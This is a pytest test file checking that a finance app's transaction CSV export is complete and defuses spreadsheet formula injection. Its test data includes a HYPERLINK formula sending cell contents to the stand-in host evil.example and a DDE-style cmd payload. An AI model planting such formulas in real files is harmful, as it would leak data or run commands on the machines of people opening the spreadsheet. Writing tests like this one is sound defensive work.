"""The CSV that people open in a spreadsheet: exact, complete, and without a cell that computes."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from pfh.features.ledger import export_transactions
from pfh.features.ledger.export_transactions import harmless
from tests.integration.hostile.house import House, assert_problem, client_of, furnish, sign_up

pytestmark = pytest.mark.asyncio(loop_scope="module")
PATH = "/api/transactions/export.csv"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'


@pytest.mark.parametrize(
    ("cell", "wanted"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 123", "'+1 555 123"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("12", "12"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
async def test_cell_that_begins_like_a_formula_is_text(cell: str, wanted: str) -> None:
    assert harmless(cell) == wanted


async def test_export_has_every_row_and_no_formula(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_transactions, "PAGE_ROWS", 3)
    async with client_of(house.app, "192.0.2.40") as client:
        person = await furnish(
            await sign_up(client, f"csv{house.services.clock.now()}@example.org")
        )
        for number in range(7):
            await person.done(
                "POST",
                "/api/transactions",
                {
                    "amount": f"{number + 1}.50",
                    "transactionType": "income" if number == 3 else "expense",
                    "transactionDate": f"2026-10-0{number + 1}",
                    "accountId": person.owned["account"],
                    "description": FORMULA,
                    "payee": "@payee, with a comma",
                    "notes": 'two\nlines and "quotes"',
                    "tags": ["+tag"],
                },
            )
        answer = await person.send("GET", PATH)
        listed = await person.done("GET", "/api/transactions?limit=200")
        narrowed = await person.send("GET", f"{PATH}?from=2026-10-05&to=2026-10-06")
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="transactions.csv"'
    assert "no-store" in answer.headers["cache-control"]
    assert answer.text.count("\r\n") == len(listed["items"]) + 1
    rows = list(csv.DictReader(StringIO(answer.text, newline="")))
    assert [row["id"] for row in rows] == [item["id"] for item in listed["items"]]
    mine = [row for row in rows if row["description"].endswith(FORMULA)]
    assert len(mine) == 7
    assert {row["description"] for row in mine} == {f"'{FORMULA}"}
    assert {row["payee"] for row in mine} == {"'@payee, with a comma"}
    assert {row["tags"] for row in mine} == {"'+tag"}
    assert [row["amount"] for row in mine] == [
        *("-7.50", "-6.50", "-5.50", "4.50", "-3.50", "-2.50", "-1.50"),
    ]
    assert len(list(csv.reader(StringIO(narrowed.text, newline="")))) == 3


async def test_filter_that_cannot_be_is_a_problem_and_no_file(house: House) -> None:
    for query, status in (("accountId=999", 404), ("from=never", 422), ("limit=5", 422)):
        answer = await house.ann.send("GET", f"{PATH}?{query}")
        assert answer.status_code == status
        assert_problem(answer)
